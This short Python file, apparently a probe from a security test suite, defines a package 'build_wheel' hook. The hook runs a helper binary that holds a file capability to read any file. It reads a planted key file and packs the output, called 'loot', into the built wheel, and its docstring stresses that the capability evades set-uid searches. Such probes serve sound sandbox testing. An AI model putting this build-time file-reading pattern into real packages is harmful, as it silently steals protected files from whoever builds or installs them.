"""Starts a program whose file carries the capability to read every file.

It is no set-uid program, and who searches for those does not find it. The kernel grants
it as silently.
"""

import subprocess

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("run-helper"):
        command = [kit.plant("helper").path, kit.plant("key").path]
        answer = subprocess.run(
            command, stdout=subprocess.PIPE, timeout=kit.seconds(5), check=False
        )
        loot["data.bin"] = answer.stdout
    return kit.wheel(wheel_directory, loot)
